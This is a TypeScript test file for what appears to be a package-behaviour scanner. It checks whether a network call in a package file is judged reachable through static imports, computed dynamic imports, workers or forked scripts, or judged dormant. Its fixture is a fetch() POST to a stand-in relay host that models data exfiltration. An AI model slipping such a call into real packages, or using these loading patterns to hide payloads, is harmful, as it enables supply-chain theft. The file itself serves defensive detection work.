/** What is reached decides how facts count: a payload must not lie dormant behind a name that is computed. */
import { describe, expect, it } from 'vitest'
import { extractBehaviour } from '../../src/extract/extract.js'
import { artifactOf } from '../support/artifact.js'

const PAYLOAD = "fetch('https://relay.tapline.invalid/x', { method: 'POST', body: 'x' })\n"

function reachIn(index: string, path: string): string | undefined {
  const behaviour = extractBehaviour(
    artifactOf({
      'package.json': JSON.stringify({ name: 'm', version: '1.0.0', type: 'module', main: 'dist/index.js' }),
      'dist/index.js': index,
      [path]: PAYLOAD,
    }),
  )
  return behaviour.facts.find((fact) => fact.kind === 'net.host' && fact.value.includes('tapline'))?.reach
}

describe('reach', () => {
  it.each([
    ['import of a file', "import './tools/a.js'"],
    ['folder read at run time', 'for (const name of names) await import(`./tools/${name}.js`)'],
    [
      'folder read at run time, by URL',
      "import { join } from 'node:path'\nimport { pathToFileURL } from 'node:url'\nfor (const f of list) await import(pathToFileURL(join(import.meta.dirname, 'tools', f)).href)",
    ],
    ['a name of which nothing is known', 'await import(process.argv[2])'],
    ['worker', "import { Worker } from 'node:worker_threads'\nnew Worker(new URL('./tools/a.js', import.meta.url))"],
    ['forked script', "import { fork } from 'node:child_process'\nfork('./tools/a.js')"],
  ])('%s', (_title, index) => {
    expect(reachIn(index, 'dist/tools/a.js')).toBe('runs')
  })

  it('leaves what nothing loads dormant', () => {
    expect(reachIn("import fs from 'node:fs'\nfs.readFileSync('x')", 'dist/tools/a.js')).toBe('dormant')
  })

  it('leaves tests and pages dormant, even beside a computed import', () => {
    expect(reachIn('await import(process.argv[2])', 'test/a.js')).toBe('dormant')
    expect(reachIn('await import(process.argv[2])', 'dist/public/a.js')).toBe('dormant')
  })
})
